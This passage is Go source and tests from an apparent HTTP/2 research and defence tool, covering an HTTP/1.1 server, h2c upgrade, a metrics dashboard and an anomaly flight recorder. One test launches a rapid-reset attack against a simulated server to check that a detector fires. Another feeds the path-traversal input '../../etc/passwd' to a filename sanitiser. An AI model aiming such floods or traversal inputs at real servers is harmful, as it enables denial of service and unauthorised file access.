		if err != nil {
			t.Fatalf("request %d: %v", i+1, err)
		}
		if !strings.Contains(status, "200") {
			t.Fatalf("request %d status %q", i+1, status)
		}
		// Read headers, find content-length, consume body.
		length := 0
		for {
			line, err := br.ReadString('\n')
			if err != nil {
				t.Fatal(err)
			}
			line = strings.TrimRight(line, "\r\n")
			if line == "" {
				break
			}
			if v, ok := strings.CutPrefix(line, "Content-Length: "); ok {
				length = atoi(t, v)
			}
		}
		if _, err := io.CopyN(io.Discard, br, int64(length)); err != nil {
			t.Fatal(err)
		}
	}
}

func atoi(t *testing.T, s string) int {
	t.Helper()
	n := 0
	for _, r := range s {
		if r < '0' || r > '9' {
			t.Fatalf("bad integer %q", s)
		}
		n = n*10 + int(r-'0')
	}
	return n
}

func TestRequestRTTIncludesProcessingDelay(t *testing.T) {
	// Fig. 6's observation: HTTP/1.1-based RTT estimates exceed the network
	// RTT by the server's processing time.
	const delay = 30 * time.Millisecond
	h := &http1.Handler{
		Site:            server.DefaultSite("h1.example"),
		ServerName:      "h1repro/1.0",
		ProcessingDelay: delay,
	}
	l := startHTTP1(t, h)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = nc.Close()
	}()
	rtt, err := http1.RequestRTT(nc, "h1.example", "/about.html")
	if err != nil {
		t.Fatalf("RequestRTT: %v", err)
	}
	if rtt < delay {
		t.Errorf("rtt = %v, want >= %v (processing delay)", rtt, delay)
	}
}

func TestH2CUpgrade(t *testing.T) {
	// Section IV-A: 101 Switching Protocols hands the connection to HTTP/2.
	site := server.DefaultSite("h2c.example")
	h2 := server.New(server.NginxProfile(), site)
	h := &http1.Handler{Site: site, ServerName: "h1repro/1.0", H2C: h2}
	l := startHTTP1(t, h)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	if err := http1.UpgradeH2C(nc, "h2c.example"); err != nil {
		t.Fatalf("UpgradeH2C: %v", err)
	}
	c, err := h2conn.Dial(nc, h2conn.DefaultOptions())
	if err != nil {
		t.Fatalf("h2 dial after upgrade: %v", err)
	}
	defer func() {
		_ = c.Close()
	}()
	resp, err := c.FetchBody(h2conn.Request{Authority: "h2c.example", Path: "/about.html", Scheme: "http"}, 5*time.Second)
	if err != nil {
		t.Fatalf("FetchBody over h2c: %v", err)
	}
	if resp.Status() != "200" {
		t.Errorf("status = %q, want 200", resp.Status())
	}
}

func TestUpgradeRefusedWithoutH2C(t *testing.T) {
	h := &http1.Handler{Site: server.DefaultSite("h1.example"), ServerName: "h1repro/1.0"}
	l := startHTTP1(t, h)
	nc, err := l.Dial()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		_ = nc.Close()
	}()
	if err := http1.UpgradeH2C(nc, "h1.example"); err == nil {
		t.Fatal("upgrade accepted by server without h2c support")
	}
}
