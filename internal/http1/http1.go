// Package http1 is a minimal HTTP/1.1 origin server and client, built for
// two roles in the reproduction:
//
//   - the HTTP/1.1 request/response RTT estimator of the paper's Fig. 6
//     (which is biased upward by server processing time — the package makes
//     that processing time explicit and configurable), and
//   - the cleartext "Upgrade: h2c" negotiation path of Section IV-A, where
//     a 101 Switching Protocols response hands the connection to HTTP/2.
//
// It intentionally implements only what the experiments need: GET requests,
// Content-Length bodies, and the upgrade dance.
package http1

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"strconv"
	"strings"
	"time"

	"h2scope/internal/server"
)

// Handler serves HTTP/1.1 requests for one site.
type Handler struct {
	// Site is the document tree; shared with the HTTP/2 server.
	Site *server.Site
	// ServerName is the Server response header value.
	ServerName string
	// ProcessingDelay is added before each response is written — the
	// server-side time that inflates HTTP/1.1-based RTT estimates in the
	// paper's Fig. 6.
	ProcessingDelay time.Duration
	// H2C, when non-nil, accepts "Upgrade: h2c" requests: the handler sends
	// 101 Switching Protocols and passes the connection to this HTTP/2
	// server (which then expects the client preface).
	H2C *server.Server
}

// Serve accepts and serves connections until the listener closes.
func (h *Handler) Serve(l net.Listener) error {
	for {
		nc, err := l.Accept()
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return nil
			}
			return fmt.Errorf("http1: accept: %w", err)
		}
		go func() {
			_ = h.ServeConn(nc)
		}()
	}
}

// ServeConn serves one connection, honoring keep-alive.
func (h *Handler) ServeConn(nc net.Conn) error {
	defer func() {
		_ = nc.Close()
	}()
	br := bufio.NewReader(nc)
	for {
		req, err := readRequest(br)
		if err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			return err
		}
		if h.H2C != nil && strings.EqualFold(req.header("upgrade"), "h2c") {
			if err := writeSwitchingProtocols(nc); err != nil {
				return err
			}
			// Hand off: the HTTP/2 server takes the raw connection, with
			// the buffered reader's remainder (the client preface follows).
			return h.H2C.ServeConn(&bufferedConn{Conn: nc, r: br})
		}
		if h.ProcessingDelay > 0 {
			time.Sleep(h.ProcessingDelay)
		}
		if err := h.respond(nc, req); err != nil {
			return err
		}
		if strings.EqualFold(req.header("connection"), "close") {
			return nil
		}
	}
}

// request is a parsed HTTP/1.1 request head.
type request struct {
	method  string
	path    string
	headers []pair
}

type pair struct{ name, value string }

func (r *request) header(name string) string {
	for _, p := range r.headers {
		if strings.EqualFold(p.name, name) {
			return p.value
		}
	}
	return ""
}

func readRequest(br *bufio.Reader) (*request, error) {
	line, err := readLine(br)
	if err != nil {
		return nil, err
	}
	parts := strings.SplitN(line, " ", 3)
	if len(parts) != 3 || !strings.HasPrefix(parts[2], "HTTP/1.") {
		return nil, fmt.Errorf("http1: malformed request line %q", line)
	}
	req := &request{method: parts[0], path: parts[1]}
	for {
		line, err := readLine(br)
		if err != nil {
			return nil, err
		}
		if line == "" {
			return req, nil
		}
		name, value, ok := strings.Cut(line, ":")
		if !ok {
			return nil, fmt.Errorf("http1: malformed header %q", line)
		}
		req.headers = append(req.headers, pair{strings.TrimSpace(name), strings.TrimSpace(value)})
	}
}

func readLine(br *bufio.Reader) (string, error) {
	line, err := br.ReadString('\n')
	if err != nil {
		return "", err
	}
	return strings.TrimRight(line, "\r\n"), nil
}

func (h *Handler) respond(w io.Writer, req *request) error {
	status := "200 OK"
	contentType := "text/html; charset=utf-8"
	var body []byte
	if res, ok := h.Site.Lookup(req.path); ok {
		contentType = res.ContentType
		body = res.Body
	} else {
		status = "404 Not Found"
		body = []byte("<html><body><h1>404 Not Found</h1></body></html>")
	}
	var sb strings.Builder
	sb.WriteString("HTTP/1.1 " + status + "\r\n")
	sb.WriteString("Server: " + h.ServerName + "\r\n")
	sb.WriteString("Content-Type: " + contentType + "\r\n")
	sb.WriteString("Content-Length: " + strconv.Itoa(len(body)) + "\r\n")
	sb.WriteString("\r\n")
	if _, err := io.WriteString(w, sb.String()); err != nil {
		return fmt.Errorf("http1: writing response head: %w", err)
	}
	if req.method == "HEAD" {
		return nil
	}
	if _, err := w.Write(body); err != nil {
		return fmt.Errorf("http1: writing body: %w", err)
	}
	return nil
}

func writeSwitchingProtocols(w io.Writer) error {
	_, err := io.WriteString(w,
		"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n")
	return err
}

// bufferedConn splices a bufio.Reader's unread bytes back in front of the
// raw connection for protocol handoff.
type bufferedConn struct {
	net.Conn
	r *bufio.Reader
}

// Read implements net.Conn using the buffered remainder first.
func (c *bufferedConn) Read(p []byte) (int, error) { return c.r.Read(p) }

// RequestRTT estimates RTT the paper's HTTP/1.1 way: the interval between
// writing a GET and receiving the first byte of the response. It issues the
// request over nc and leaves the connection positioned after the response.
func RequestRTT(nc net.Conn, host, path string) (time.Duration, error) {
	req := "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
	start := time.Now()
	if _, err := io.WriteString(nc, req); err != nil {
		return 0, fmt.Errorf("http1: writing request: %w", err)
	}
	buf := make([]byte, 1)
	if _, err := nc.Read(buf); err != nil {
		return 0, fmt.Errorf("http1: reading response: %w", err)
	}
	rtt := time.Since(start)
	// Drain the rest so the server can finish cleanly.
	_, _ = io.Copy(io.Discard, nc)
	return rtt, nil
}

// UpgradeH2C sends a cleartext upgrade request and consumes the 101
// response, leaving nc ready for the HTTP/2 client preface. It returns an
// error when the server does not accept the upgrade.
func UpgradeH2C(nc net.Conn, host string) error {
	req := "GET / HTTP/1.1\r\nHost: " + host +
		"\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: \r\n\r\n"
	if _, err := io.WriteString(nc, req); err != nil {
		return fmt.Errorf("http1: writing upgrade request: %w", err)
	}
	br := bufio.NewReader(nc)
	line, err := readLine(br)
	if err != nil {
		return fmt.Errorf("http1: reading upgrade response: %w", err)
	}
	if !strings.Contains(line, "101") {
		return fmt.Errorf("http1: upgrade refused: %q", line)
	}
	for {
		line, err := readLine(br)
		if err != nil {
			return err
		}
		if line == "" {
			break
		}
	}
	if br.Buffered() > 0 {
		return errors.New("http1: unexpected bytes after 101 response")
	}
	return nil
}
