package obs

import (
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"h2scope/internal/metrics"
)

func TestLabelValue(t *testing.T) {
	cases := []struct {
		name, base, key string
		want            string
		ok              bool
	}{
		{`h2_scan_outcomes_total{outcome="ok"}`, "h2_scan_outcomes_total", "outcome", "ok", true},
		{`m{a="1",b="2"}`, "m", "b", "2", true},
		{`m{a="quo\"ted"}`, "m", "a", `quo"ted`, true},
		{`m{a="1"}`, "m", "missing", "", false},
		{`m{a="1"}`, "other", "a", "", false},
		{`plain_counter`, "plain_counter", "a", "", false},
		{`m{garbage}`, "m", "a", "", false},
	}
	for _, c := range cases {
		got, ok := labelValue(c.name, c.base, c.key)
		if got != c.want || ok != c.ok {
			t.Errorf("labelValue(%q, %q, %q) = (%q, %v), want (%q, %v)",
				c.name, c.base, c.key, got, ok, c.want, c.ok)
		}
	}
}

func TestDashboardStateAndJSON(t *testing.T) {
	reg := metrics.NewRegistry()
	m := NewMonitor(MonitorConfig{Registry: reg})
	rec, err := NewFlightRecorder(FlightRecorderConfig{Dir: t.TempDir(), MinInterval: -1, Registry: reg})
	if err != nil {
		t.Fatal(err)
	}

	// Populate the registry the way a census run does.
	reg.Counter("h2_scan_targets_total", "").Add(42)
	reg.Counter(metrics.Label("h2_scan_outcomes_total", "outcome", "success"), "").Add(40)
	reg.Counter(metrics.Label("h2_scan_outcomes_total", "outcome", "failure"), "").Add(2)
	reg.Counter(metrics.Label("h2_scan_failures_total", "kind", "tls"), "").Add(2)
	reg.Counter(metrics.Label("h2_attacks_detected_total", "kind", "rapid-reset"), "").Add(3)
	reg.Counter(metrics.Label("h2_mitigations_total", "action", "goaway"), "").Add(1)
	reg.GaugeFunc(metrics.Label("h2_trace_sub_dropped_total", "sub", "obs"), "", func() int64 { return 7 })
	reg.Gauge(metrics.Label("h2_shard_conns", "shard", "10"), "").Add(3)
	reg.Gauge(metrics.Label("h2_shard_conns", "shard", "2"), "").Add(5)
	reg.Gauge("h2_egress_queue_depth", "").Add(9)
	ready := reg.Histogram("h2_egress_ready_streams", "", 1, metrics.DefaultBuckets)
	for i := 0; i < 8; i++ {
		ready.Observe(4)
	}
	m.ObserveTarget("site-000001.example", "traces/a.jsonl", clientEvents())
	if _, err := rec.Dump(Anomaly{Reason: "detector:rapid-reset"}, nil); err != nil {
		t.Fatal(err)
	}

	d := NewDashboard("test run", m, rec, reg)
	rr := httptest.NewRecorder()
	d.ServeHTTP(rr, httptest.NewRequest("GET", "/dashboard.json", nil))
	if ct := rr.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
		t.Fatalf("Content-Type = %q", ct)
	}
	var st DashState
	if err := json.Unmarshal(rr.Body.Bytes(), &st); err != nil {
		t.Fatalf("bad JSON: %v", err)
	}

	if st.Title != "test run" || st.Targets != 42 {
		t.Errorf("title/targets = %q/%d", st.Title, st.Targets)
	}
	if st.Outcomes["success"] != 40 || st.Outcomes["failure"] != 2 {
		t.Errorf("outcomes = %v", st.Outcomes)
	}
	if st.FailureKinds["tls"] != 2 {
		t.Errorf("failure kinds = %v", st.FailureKinds)
	}
	if st.DetectorHits["rapid-reset"] != 3 || st.Mitigations["goaway"] != 1 {
		t.Errorf("detector/mitigations = %v / %v", st.DetectorHits, st.Mitigations)
	}
	if st.SubDropped["obs"] != 7 {
		t.Errorf("sub dropped = %v", st.SubDropped)
	}
	if st.FlightDumps != 1 {
		t.Errorf("flight dumps = %d", st.FlightDumps)
	}
	if len(st.Phases) == 0 {
		t.Fatal("no phase rows")
	}
	// Phase rows come back in causal order with populated quantiles.
	if st.Phases[0].Phase != PhaseDial || st.Phases[0].Count != 1 ||
		st.Phases[0].P50Ns != (5*time.Millisecond).Nanoseconds() {
		t.Errorf("first phase row = %+v", st.Phases[0])
	}
	if len(st.Exemplars) == 0 {
		t.Error("no exemplars in state")
	}
	// Data-plane rows: shards sort numerically (2 before 10) and the egress
	// scheduler summary folds in both the gauge and the histogram.
	if len(st.Shards) != 2 || st.Shards[0] != (ShardStat{Shard: 2, Conns: 5}) ||
		st.Shards[1] != (ShardStat{Shard: 10, Conns: 3}) {
		t.Errorf("shard rows = %+v, want shard 2 (5 conns) then shard 10 (3 conns)", st.Shards)
	}
	if st.Egress == nil {
		t.Fatal("no egress summary in state")
	}
	if st.Egress.QueueDepth != 9 || st.Egress.Passes != 8 {
		t.Errorf("egress = %+v, want queue depth 9 over 8 passes", st.Egress)
	}
	if st.Egress.ReadyP50 <= 0 || st.Egress.ReadyP99 < st.Egress.ReadyP50 {
		t.Errorf("egress ready quantiles = %+v, want 0 < p50 <= p99", st.Egress)
	}

	// HTML view renders the same state.
	rr = httptest.NewRecorder()
	d.ServeHTTP(rr, httptest.NewRequest("GET", "/dashboard", nil))
	html := rr.Body.String()
	for _, want := range []string{"test run", "phase latency", "rapid-reset", "flight dumps", "dial",
		"serve shards", "egress scheduler", "queued frames"} {
		if !strings.Contains(html, want) {
			t.Errorf("HTML missing %q", want)
		}
	}
}

func TestDashboardNilMonitorAndRecorder(t *testing.T) {
	d := NewDashboard("bare", nil, nil, metrics.NewRegistry())
	rr := httptest.NewRecorder()
	d.ServeHTTP(rr, httptest.NewRequest("GET", "/dashboard?format=json", nil))
	var st DashState
	if err := json.Unmarshal(rr.Body.Bytes(), &st); err != nil {
		t.Fatalf("bad JSON: %v", err)
	}
	if st.Title != "bare" || st.Targets != 0 || st.FlightDumps != 0 {
		t.Errorf("state = %+v", st)
	}
}
