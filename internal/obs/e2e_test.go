package obs_test

import (
	"bufio"
	"encoding/json"
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"h2scope/internal/attack"
	"h2scope/internal/metrics"
	"h2scope/internal/netsim"
	"h2scope/internal/obs"
	"h2scope/internal/server"
	"h2scope/internal/trace"
)

// TestDetectorTriggersFlightDump is the end-to-end forensic chain: a
// detector-armed server under a real rapid-reset attack fires OnDetect,
// which hands the tracer's snapshot to the flight recorder — exactly the
// h2server -detector -flightrec wiring — and the result on disk must be a
// bounded, well-formed JSONL dump.
func TestDetectorTriggersFlightDump(t *testing.T) {
	dir := t.TempDir()
	reg := metrics.NewRegistry()
	const tail = 128
	rec, err := obs.NewFlightRecorder(obs.FlightRecorderConfig{
		Dir: dir, Tail: tail, MinInterval: -1, Registry: reg,
	})
	if err != nil {
		t.Fatal(err)
	}

	srv := server.New(server.ApacheProfile(), server.DefaultSite("attack.example"))
	srv.Trace = trace.New(1 << 14)
	cfg := server.DetectorConfig{
		Window:  500 * time.Millisecond,
		Buckets: 5,
		Thresholds: server.Thresholds{
			HeaderRate: 50, ResetRate: 20, MinResets: 5, ResetRatio: 0.3,
			SettingsRate: 20, ContinuationRate: 10,
			AsymmetryMinBytes: 8 << 10, AsymmetryFactor: 4,
			TinyDataRate: 5, TinyDataBytes: 16,
			StarvationTime: 250 * time.Millisecond,
		},
		OnDetect: func(det server.Detection) {
			a := obs.Anomaly{Reason: "detector:" + string(det.Kind), Conn: det.Conn, At: det.At}
			if _, derr := rec.Dump(a, srv.Trace.Snapshot()); derr != nil {
				t.Errorf("flight dump: %v", derr)
			}
		},
	}
	srv.StartDetector(cfg, reg)
	l := netsim.NewListener("attack")
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(srv.Close)

	r := &attack.Runner{
		Dial:      func() (net.Conn, error) { return l.Dial() },
		Authority: "attack.example",
		ProbePath: "/about.html",
	}
	if _, err := r.Run(attack.KindRapidReset, attack.Params{
		Path: "/large/1", Duration: 800 * time.Millisecond,
	}); err != nil {
		t.Fatal(err)
	}
	if err := rec.Close(); err != nil {
		t.Fatal(err)
	}

	if rec.Dumps() == 0 {
		t.Fatal("detector fired no flight dumps")
	}
	dumps, err := filepath.Glob(filepath.Join(dir, "anomaly-*.jsonl"))
	if err != nil || len(dumps) == 0 {
		t.Fatalf("no dump files on disk (err=%v)", err)
	}

	// Every dump must be bounded and well-formed: a recognizable header,
	// span summaries, and at most Tail event lines of valid JSON.
	for _, path := range dumps {
		f, err := os.Open(path)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(make([]byte, 0, 64*1024), 4*1024*1024)
		var events, spans int
		first := true
		for sc.Scan() {
			var line map[string]json.RawMessage
			if err := json.Unmarshal(sc.Bytes(), &line); err != nil {
				t.Fatalf("%s: bad JSONL: %v", path, err)
			}
			if first {
				var hdr struct {
					Flightrec string `json:"flightrec"`
					Reason    string `json:"reason"`
				}
				if err := json.Unmarshal(sc.Bytes(), &hdr); err != nil {
					t.Fatal(err)
				}
				if hdr.Flightrec != "h2scope-anomaly" || hdr.Reason == "" {
					t.Errorf("%s: header = %+v", path, hdr)
				}
				first = false
				continue
			}
			if line["span"] != nil {
				spans++
			}
			if line["event"] != nil {
				events++
			}
		}
		if err := sc.Err(); err != nil {
			t.Fatal(err)
		}
		f.Close()
		if events == 0 || events > tail {
			t.Errorf("%s: %d event lines, want 1..%d (bounded)", path, events, tail)
		}
		if spans == 0 {
			t.Errorf("%s: no span summary lines", path)
		}
	}

	// The manifest indexes what landed on disk.
	if _, err := os.Stat(filepath.Join(dir, "manifest.json")); err != nil {
		t.Errorf("manifest: %v", err)
	}
}
