package obs

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// fakeClock is a settable clock for rate-limit tests.
type fakeClock struct{ now time.Time }

func (c *fakeClock) Now() time.Time          { return c.now }
func (c *fakeClock) Advance(d time.Duration) { c.now = c.now.Add(d) }

func newTestRecorder(t *testing.T, cfg FlightRecorderConfig) (*FlightRecorder, string) {
	t.Helper()
	dir := t.TempDir()
	cfg.Dir = dir
	r, err := NewFlightRecorder(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return r, dir
}

func TestFlightRecorderDumpContents(t *testing.T) {
	clk := &fakeClock{now: testBase}
	r, _ := newTestRecorder(t, FlightRecorderConfig{Tail: 4, Clock: clk.Now})

	events := clientEvents()
	path, err := r.Dump(Anomaly{Reason: "p99-blowout:dial", Target: "site-000001.example", Phase: PhaseDial}, events)
	if err != nil {
		t.Fatal(err)
	}
	if path == "" {
		t.Fatal("dump suppressed unexpectedly")
	}
	if !strings.HasPrefix(filepath.Base(path), "anomaly-001-p99-blowout-dial") {
		t.Errorf("dump file name %q", filepath.Base(path))
	}

	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	var headers, spans, dumped int
	for sc.Scan() {
		var line map[string]json.RawMessage
		if err := json.Unmarshal(sc.Bytes(), &line); err != nil {
			t.Fatalf("bad JSONL line: %v", err)
		}
		switch {
		case line["flightrec"] != nil:
			headers++
			var hdr struct {
				Reason    string `json:"reason"`
				Events    int    `json:"events"`
				Truncated bool   `json:"truncated"`
			}
			if err := json.Unmarshal(sc.Bytes(), &hdr); err != nil {
				t.Fatal(err)
			}
			if hdr.Reason != "p99-blowout:dial" || hdr.Events != 4 || !hdr.Truncated {
				t.Errorf("header = %+v", hdr)
			}
		case line["span"] != nil:
			spans++
		case line["event"] != nil:
			dumped++
		default:
			t.Errorf("unclassified line: %s", sc.Text())
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	// One header, a span line per reconstructed connection (the summary
	// covers the FULL stream, not just the tail), and exactly Tail events.
	if headers != 1 || spans != 1 || dumped != 4 {
		t.Errorf("headers=%d spans=%d events=%d, want 1/1/4", headers, spans, dumped)
	}
	if r.Dumps() != 1 || r.Suppressed() != 0 {
		t.Errorf("dumps=%d suppressed=%d", r.Dumps(), r.Suppressed())
	}
}

func TestFlightRecorderRateLimitAndCap(t *testing.T) {
	clk := &fakeClock{now: testBase}
	r, _ := newTestRecorder(t, FlightRecorderConfig{MaxDumps: 2, MinInterval: time.Second, Clock: clk.Now})

	dump := func() string {
		t.Helper()
		path, err := r.Dump(Anomaly{Reason: "error-spike:tls"}, nil)
		if err != nil {
			t.Fatal(err)
		}
		return path
	}
	if dump() == "" {
		t.Fatal("first dump suppressed")
	}
	if dump() != "" {
		t.Error("dump inside MinInterval not suppressed")
	}
	clk.Advance(2 * time.Second)
	if dump() == "" {
		t.Fatal("dump after interval suppressed")
	}
	clk.Advance(2 * time.Second)
	if dump() != "" {
		t.Error("dump beyond MaxDumps not suppressed")
	}
	if r.Dumps() != 2 || r.Suppressed() != 2 {
		t.Errorf("dumps=%d suppressed=%d, want 2/2", r.Dumps(), r.Suppressed())
	}
}

func TestFlightRecorderCloseWritesManifest(t *testing.T) {
	clk := &fakeClock{now: testBase}
	r, dir := newTestRecorder(t, FlightRecorderConfig{MinInterval: -1, MaxDumps: 2, Clock: clk.Now})
	if _, err := r.Dump(Anomaly{Reason: "detector:rapid-reset", Target: "t1"}, clientEvents()); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Dump(Anomaly{Reason: "detector:settings-flood", Target: "t2"}, nil); err != nil {
		t.Fatal(err)
	}
	// Third trigger hits the cap: counted as suppressed, shows up in the
	// manifest below.
	if path, err := r.Dump(Anomaly{Reason: "detector:ping-flood"}, nil); err != nil || path != "" {
		t.Fatalf("capped dump: path=%q err=%v", path, err)
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}
	// Closed recorder suppresses further triggers, and Close is idempotent.
	if path, err := r.Dump(Anomaly{Reason: "late"}, nil); err != nil || path != "" {
		t.Errorf("post-close dump: path=%q err=%v", path, err)
	}
	if err := r.Close(); err != nil {
		t.Fatal(err)
	}

	data, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var manifest struct {
		Flightrec string `json:"flightrec"`
		Dumps     []struct {
			File   string `json:"file"`
			Reason string `json:"reason"`
		} `json:"dumps"`
		Suppressed int64 `json:"suppressed"`
	}
	if err := json.Unmarshal(data, &manifest); err != nil {
		t.Fatal(err)
	}
	if manifest.Flightrec != "h2scope-manifest" || len(manifest.Dumps) != 2 || manifest.Suppressed != 1 {
		t.Errorf("manifest = %+v", manifest)
	}
	for _, d := range manifest.Dumps {
		if _, err := os.Stat(filepath.Join(dir, d.File)); err != nil {
			t.Errorf("manifest names missing dump: %v", err)
		}
	}
}

func TestFlightRecorderRequiresDir(t *testing.T) {
	if _, err := NewFlightRecorder(FlightRecorderConfig{}); err == nil {
		t.Fatal("NewFlightRecorder without Dir: want error")
	}
}

func TestSafeFileFragment(t *testing.T) {
	if got := safeFileFragment("p99-blowout:dial"); got != "p99-blowout-dial" {
		t.Errorf("safeFileFragment = %q", got)
	}
	if got := safeFileFragment(strings.Repeat("x", 100)); len(got) != 48 {
		t.Errorf("long fragment not capped: %d chars", len(got))
	}
	if got := safeFileFragment("../../etc/passwd"); strings.ContainsAny(got, "/\\") {
		t.Errorf("path characters survived: %q", got)
	}
	if got := safeFileFragment(""); got != "anomaly" {
		t.Errorf("empty fragment = %q", got)
	}
}
