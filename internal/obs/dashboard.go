package obs

import (
	"encoding/json"
	"html/template"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"time"

	"h2scope/internal/metrics"
)

// Dashboard is the live run view served from the -debug-addr mux: one
// handler answering both server-rendered HTML (auto-refreshing) and a JSON
// API (path ending in .json or ?format=json). It carves its state out of
// the same registry snapshots /metrics serves, plus the monitor's
// exemplars and the flight recorder's dump counters, so the dashboard can
// never disagree with the exposition endpoint.
type Dashboard struct {
	title    string
	monitor  *Monitor
	recorder *FlightRecorder
	regs     []*metrics.Registry
	start    time.Time

	// Rate state: targets/sec is computed from successive snapshot deltas,
	// cached so rapid scrapes don't divide by near-zero intervals.
	mu          sync.Mutex
	lastAt      time.Time
	lastTargets int64
	lastRate    float64
}

// NewDashboard builds a dashboard over the given registries. monitor and
// recorder may be nil — their sections render empty.
func NewDashboard(title string, monitor *Monitor, recorder *FlightRecorder, regs ...*metrics.Registry) *Dashboard {
	return &Dashboard{
		title:    title,
		monitor:  monitor,
		recorder: recorder,
		regs:     regs,
		start:    time.Now(),
	}
}

// PhaseStat is one phase's dashboard row.
type PhaseStat struct {
	Phase string `json:"phase"`
	Count int64  `json:"count"`
	P50Ns int64  `json:"p50Ns"`
	P99Ns int64  `json:"p99Ns"`
}

// P50 and P99 render the quantiles for the HTML template.
func (p PhaseStat) P50() string { return fmtDur(time.Duration(p.P50Ns)) }
func (p PhaseStat) P99() string { return fmtDur(time.Duration(p.P99Ns)) }

// ShardStat is one serve shard's dashboard row.
type ShardStat struct {
	Shard int   `json:"shard"`
	Conns int64 `json:"conns"`
}

// EgressStat summarizes the priority-aware egress scheduler: the live
// queued-frame depth plus the ready-streams-per-pass histogram.
type EgressStat struct {
	QueueDepth int64 `json:"queueDepth"`
	Passes     int64 `json:"passes"`
	ReadyP50   int64 `json:"readyP50"`
	ReadyP99   int64 `json:"readyP99"`
}

// DashState is the dashboard's JSON payload — everything the HTML view
// renders, machine-readable.
type DashState struct {
	Title            string           `json:"title"`
	GeneratedAt      time.Time        `json:"generatedAt"`
	UptimeSec        float64          `json:"uptimeSec"`
	Targets          int64            `json:"targets"`
	TargetsPerSec    float64          `json:"targetsPerSec"`
	Outcomes         map[string]int64 `json:"outcomes,omitempty"`
	FailureKinds     map[string]int64 `json:"failureKinds,omitempty"`
	Phases           []PhaseStat      `json:"phases,omitempty"`
	RingEmitted      int64            `json:"ringEmitted"`
	RingDropped      int64            `json:"ringDropped"`
	SubDropped       map[string]int64 `json:"subDropped,omitempty"`
	SubPending       map[string]int64 `json:"subPending,omitempty"`
	Shards           []ShardStat      `json:"shards,omitempty"`
	Egress           *EgressStat      `json:"egress,omitempty"`
	DetectorHits     map[string]int64 `json:"detectorHits,omitempty"`
	Mitigations      map[string]int64 `json:"mitigations,omitempty"`
	Anomalies        int64            `json:"anomalies"`
	FlightDumps      int64            `json:"flightDumps"`
	FlightSuppressed int64            `json:"flightSuppressed"`
	Exemplars        []Exemplar       `json:"exemplars,omitempty"`
}

// labelValue extracts one label's value from a registered metric name:
// labelValue(`h2_scan_outcomes_total{outcome="ok"}`, "h2_scan_outcomes_total",
// "outcome") returns ("ok", true).
func labelValue(name, base, key string) (string, bool) {
	if !strings.HasPrefix(name, base+"{") || !strings.HasSuffix(name, "}") {
		return "", false
	}
	body := name[len(base)+1 : len(name)-1]
	for body != "" {
		eq := strings.IndexByte(body, '=')
		if eq < 0 {
			return "", false
		}
		k := body[:eq]
		rest := body[eq+1:]
		quoted, err := strconv.QuotedPrefix(rest)
		if err != nil {
			return "", false
		}
		v, err := strconv.Unquote(quoted)
		if err != nil {
			return "", false
		}
		if k == key {
			return v, true
		}
		body = strings.TrimPrefix(rest[len(quoted):], ",")
	}
	return "", false
}

// clampQuantile answers a histogram quantile clamped into the exact
// observed range, as the scan engine's Stats rendering does.
func clampQuantile(h *metrics.HistogramSnapshot, q float64) int64 {
	v := h.Quantile(q)
	if v < h.Min {
		v = h.Min
	}
	if v > h.Max {
		v = h.Max
	}
	return v
}

// state carves the current DashState out of the registries.
func (d *Dashboard) state() *DashState {
	now := time.Now()
	st := &DashState{
		Title:        d.title,
		GeneratedAt:  now,
		UptimeSec:    now.Sub(d.start).Seconds(),
		Outcomes:     map[string]int64{},
		FailureKinds: map[string]int64{},
		SubDropped:   map[string]int64{},
		SubPending:   map[string]int64{},
		DetectorHits: map[string]int64{},
		Mitigations:  map[string]int64{},
	}
	var snap []metrics.MetricSnapshot
	for _, r := range d.regs {
		snap = append(snap, r.Snapshot()...)
	}
	for _, m := range snap {
		switch {
		case m.Name == "h2_scan_targets_total":
			st.Targets += m.Value
		case m.Name == "h2_trace_events_total":
			st.RingEmitted += m.Value
		case m.Name == "h2_trace_dropped_total":
			st.RingDropped += m.Value
		case m.Name == "h2_egress_queue_depth":
			if st.Egress == nil {
				st.Egress = &EgressStat{}
			}
			st.Egress.QueueDepth += m.Value
		case m.Name == "h2_egress_ready_streams" && m.Histogram != nil:
			if st.Egress == nil {
				st.Egress = &EgressStat{}
			}
			st.Egress.Passes += m.Histogram.Count
			if m.Histogram.Count > 0 {
				st.Egress.ReadyP50 = clampQuantile(m.Histogram, 0.50)
				st.Egress.ReadyP99 = clampQuantile(m.Histogram, 0.99)
			}
		default:
			if v, ok := labelValue(m.Name, "h2_shard_conns", "shard"); ok {
				n, err := strconv.Atoi(v)
				if err != nil {
					n = -1
				}
				st.Shards = append(st.Shards, ShardStat{Shard: n, Conns: m.Value})
			} else if v, ok := labelValue(m.Name, "h2_scan_outcomes_total", "outcome"); ok {
				st.Outcomes[v] += m.Value
			} else if v, ok := labelValue(m.Name, "h2_scan_failures_total", "kind"); ok {
				st.FailureKinds[v] += m.Value
			} else if v, ok := labelValue(m.Name, "h2_trace_sub_dropped_total", "sub"); ok {
				st.SubDropped[v] += m.Value
